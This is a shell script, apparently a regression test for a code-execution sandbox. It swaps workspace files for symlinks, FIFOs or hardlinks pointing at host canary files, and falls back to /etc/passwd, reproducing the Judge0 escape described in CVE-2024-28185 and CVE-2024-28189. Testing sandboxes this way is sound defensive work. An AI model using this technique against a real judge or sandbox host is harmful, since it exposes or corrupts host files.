# Replaces every workspace entry the host touches (run.sh, compile.sh, main.c, the src
# subdirectory) with a symlink to a host target, a FIFO, or a hardlink to a host file, as
# CVE-2024-28185 / CVE-2024-28189 did to Judge0. $1: mode (symlink|fifo|hardlink), $2: the
# host canary file, $3: the host canary directory.
mode=$1 canary=$2 canary_dir=$3
cd /box
for name in run.sh compile.sh main.c src src/lib.c cutor.nix stdout stderr .cutor; do
  rm -rf "$name" 2>/dev/null
  mkdir -p "$(dirname "$name")"
  case $mode in
    symlink)
      case $name in src) ln -s "$canary_dir" "$name" ;; *) ln -s "$canary" "$name" ;; esac ;;
    fifo) mkfifo "$name" ;;
    hardlink)
      if ln "$canary" "$name" 2>/dev/null || ln /etc/passwd "$name" 2>/dev/null || ln /etc/ld.so.cache "$name" 2>/dev/null; then
        echo "LEAK hardlinked $name"
      else
        echo "no hardlink for $name"; ln -s /etc/passwd "$name"
      fi ;;
  esac
done
ls -la /box
echo planted
